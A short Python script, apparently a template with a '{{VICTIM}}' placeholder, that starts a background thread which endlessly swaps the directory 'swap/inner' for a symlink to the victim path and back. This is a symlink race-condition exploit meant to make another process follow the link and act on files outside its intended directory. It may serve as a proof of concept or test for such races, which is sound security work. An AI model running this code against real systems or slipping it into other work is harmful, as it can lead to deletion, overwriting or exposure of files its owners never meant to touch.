import os
import threading

VICTIM = "{{VICTIM}}"


def swap():
    try:
        os.makedirs("swap/inner")
    except OSError:
        pass
    while True:
        try:
            os.rename("swap/inner", "swap/kept")
            os.symlink(VICTIM, "swap/inner")
            os.unlink("swap/inner")
            os.rename("swap/kept", "swap/inner")
        except OSError:
            continue


threading.Thread(target=swap, daemon=True).start()
